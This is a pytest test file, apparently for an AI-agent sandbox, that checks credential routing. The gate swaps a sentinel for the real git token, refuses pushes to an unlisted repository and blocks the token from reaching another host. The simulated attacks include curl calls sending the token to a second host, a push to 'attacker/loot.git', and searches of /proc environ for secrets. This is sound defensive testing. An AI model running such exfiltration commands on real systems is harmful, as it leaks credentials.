"""A credential route in a real bottle: git pushes over HTTPS to a server that accepts only the real token,
and pip installs from an index that does, while the bottle holds only the run's sentinel; the agent's own token never reaches the server; a push to a
repository the route's rules do not list is refused; the sentinel sent to another allowed host is refused.

The git server (tests/bottle/git_server.py) answers as two names on the tests' network: ``git-server``, the
route's bound host, and ``git-other``, a host the agent may also reach, without the route.
"""

from __future__ import annotations

import base64
import json
import secrets
from pathlib import Path

import docker
import pytest

from claude_bottle import tokens
from claude_bottle.agent.load import load_agent
from claude_bottle.credentials import Credential
from claude_bottle.gate.settings import parse_upstream
from claude_bottle.launch import Launch, started
from claude_bottle.verify.standins import in_bottle as inside
from tests.bottle.conftest import TEST_LABEL, ImagesFor, Upstream, gate_audit, leftovers, write_agent
from tests.bottle.git_server import PACKAGE, git_server

pytestmark = pytest.mark.docker
BOUND, OTHER = "git-server", "git-other"
SERVER_IMAGE_PACKAGES = ("python3", "nodejs")  # as tests/bottle/test_gate_ca.py builds it: one image for both
GIT = "GIT_TERMINAL_PROMPT=0 timeout 60 git"


def search(value: str) -> str:
    """A search of the bottle's files and processes for ``value``, which never appears in the search's own
    arguments (it goes in base64, decoded into a file under /dev, which is not searched)."""
    encoded = base64.b64encode(value.encode()).decode()
    return (f"echo {encoded} | base64 -d > /dev/shm/needle; "
            "grep -rlsF -D skip -f /dev/shm/needle / --exclude-dir=sys --exclude-dir=proc --exclude-dir=dev; "
            "grep -lsF -f /dev/shm/needle /proc/[0-9]*/environ /proc/[0-9]*/cmdline; rm -f /dev/shm/needle")


def test_git_pushes_with_the_sentinel_and_the_server_sees_only_the_real_token(
        client: docker.DockerClient, upstream: Upstream, token: str, workspace: Path, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch, images_for: ImagesFor) -> None:
    real = "real-git-token-" + secrets.token_hex(20)
    attacker = "attacker-token-" + secrets.token_hex(20)
    monkeypatch.setenv("TEST_GIT_TOKEN", real)
    server_image = images_for(*SERVER_IMAGE_PACKAGES)[0]
    with git_server(client, server_image, upstream.network, (BOUND, OTHER), f"x-access-token:{real}",
                    ("team/app.git", "attacker/loot.git"), {TEST_LABEL: "1"}) as server:
        ca_file = tmp_path / "git-ca.pem"
        server.ca.cert_pem.write_to_path(str(ca_file))
        write_agent("gitroute", f'allow = ["{OTHER}:8443"]\nallow_private = ["{upstream.subnet}"]\n'
                                f'extra_packages = ["python3-pip", "gh"]\n'
                                f'[credentials.git]\nhosts = ["{BOUND}:8443"]\nscheme = "basic"\n'
                                'username = "x-access-token"\nenv = "TEST_GIT_TOKEN"\ngit = true\n'
                                'bottle_env = ["GIT_TOKEN", "GH_ENTERPRISE_TOKEN"]\n'
                                'allow = ["GET /**", "POST /team/app.git/git-upload-pack", '
                                '"POST /team/app.git/git-receive-pack"]\n')
        agent = load_agent("gitroute", workspace)
        launch = Launch(agent, workspace, Credential.parse(token, "test"), parse_upstream(upstream.url),
                        (upstream.network,), upstream_ca_files=(ca_file,), routes=tokens.routes_for(agent.credentials))
        sentinel = launch.routes[0].spec.sentinel
        with started(launch, lambda line: None) as run:
            run.create_bottle(["sleep", "600"], tty=False)
            run.engine.start(run.names.bottle)
            url = f"https://{BOUND}:8443"
            setup = inside(run, f"cd /tmp && {GIT} clone {url}/team/app.git 2>&1 && cd app && "
                                "git -c user.name=a -c user.email=a@b commit -q --allow-empty -m from-the-bottle && "
                                f"{GIT} push origin HEAD:main 2>&1")
            # pip with the index's credentials in its URL, as a user would write them: the sentinel there.
            pip = inside(run, "timeout 120 pip install -q --break-system-packages --target /tmp/site --index-url "
                              f"\"https://x-access-token:$GIT_TOKEN@{BOUND}:8443/simple/\" {PACKAGE} 2>&1 && "
                              "PYTHONPATH=/tmp/site python3 -c 'import demo_pkg; print(demo_pkg.VALUE)'")
            # gh, its token the sentinel (GitHub Enterprise's variable, as the server is not github.com).
            gh = inside(run, f"GH_HOST={BOUND}:8443 timeout 60 gh api user --jq .login 2>&1")
            # The agent brings its own token, in a header and in the URL: the server must never see it.
            own = base64.b64encode(f"me:{attacker}".encode()).decode()
            with_own = inside(run, f"cd /tmp/app && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m "
                                   f"own-token && {GIT} -c http.extraHeader='Authorization: Basic {own}' push "
                                   f"https://me:{attacker}@{BOUND}:8443/team/app.git HEAD:main 2>&1")
            curl_own = inside(run, f"curl -sS -o /dev/null -w '%{{http_code}}' -H 'Authorization: Bearer {attacker}' "
                                   f"'{url}/team/app.git/info/refs?service=git-upload-pack'")
            # A push to a repository the route's rules do not list (an attacker's) is refused at the gate.
            unlisted = inside(run, f"cd /tmp/app && {GIT} push {url}/attacker/loot.git HEAD:main 2>&1")
            # The sentinel to another allowed host, as a credential and in a URL: refused by DLP.
            leaks = [inside(run, f"curl -sS -D - -o /dev/null -H 'Authorization: Bearer {sentinel}' "
                                 f"https://{OTHER}:8443/team/app.git/info/refs"),
                     inside(run, f"curl -sS -D - -o /dev/null 'https://{OTHER}:8443/?t='\"$GIT_TOKEN\"")]
            # Where the bottle might find the real value: its environment, its files, its processes.
            env = inside(run, "printenv GIT_TOKEN; env")
            found, control = (inside(run, search(value)) for value in (real, sentinel))
            # a host file mounted read-only: the mount, not its owner (whoever started the bottle), stops writes
            helper = inside(run, "stat -c '%a' /etc/gitconfig && grep ' /etc/gitconfig ' /proc/self/mountinfo "
                                 "&& echo x 2>/dev/null >> /etc/gitconfig")
            inspected = [json.dumps(client.api.inspect_container(name)) for name in (run.names.gate, run.names.bottle)]
            audit = gate_audit(run)
        seen, pushed, loot = server.requests(), server.log("team/app.git"), server.log("attacker/loot.git")

    assert setup[0] == 0, setup[1]
    assert with_own[0] == 0, with_own[1]
    assert gh == (0, "the-route-owner\n"), gh
    assert pip[0] == 0 and "installed through the gate" in pip[1], pip[1]
    assert {r["path"].split("#")[0] for r in seen} >= {f"/simple/{PACKAGE}/", "/packages/demo_pkg-1.0-py3-none-any.whl"}
    assert pushed.split() == ["own-token", "from-the-bottle"]
    real_header = "Basic " + base64.b64encode(f"x-access-token:{real}".encode()).decode()
    assert seen and all(r["authorization"] == [real_header] for r in seen), seen
    assert attacker not in json.dumps(seen), "a token of the agent's own reached the bound host"
    assert curl_own == (0, "200")

    assert unlisted[0] != 0 and "403" in unlisted[1], unlisted[1]
    assert not any(r["path"].startswith("/attacker/loot.git/git-receive-pack") for r in seen)
    assert loot == ""
    refused = [r for r in audit if r.get("path") == "/attacker/loot.git/git-receive-pack" and r["method"] == "POST"]
    assert refused and all(r["decision"] == "deny" and r["status"] == 403
                           and r["rule"].startswith(f"[[egress]] {BOUND}") for r in refused), refused

    for code, head in leaks:
        assert code == 0 and "\r\nHTTP/1.1 403" in head and "DLP rule held-secret" in head, head
    assert not any(r["host"].startswith(OTHER) for r in seen), "the sentinel reached another host"

    assert env[1].splitlines()[0] == sentinel and real not in env[1]
    assert found[1] == "", f"the real token in the bottle: {found[1]}"
    assert "/etc/gitconfig" in control[1], "the search must find what is there"
    mode, mount = helper[1].splitlines()[:2]
    assert mode == "644" and "ro" in mount.split()[5].split(",") and helper[0] != 0, helper
    assert all(real not in text for text in inspected), "the real token in docker inspect"
    assert sentinel in inspected[1], "the search must find what is there"
    assert real not in json.dumps(audit)
    assert leftovers(client, "gitroute") == []
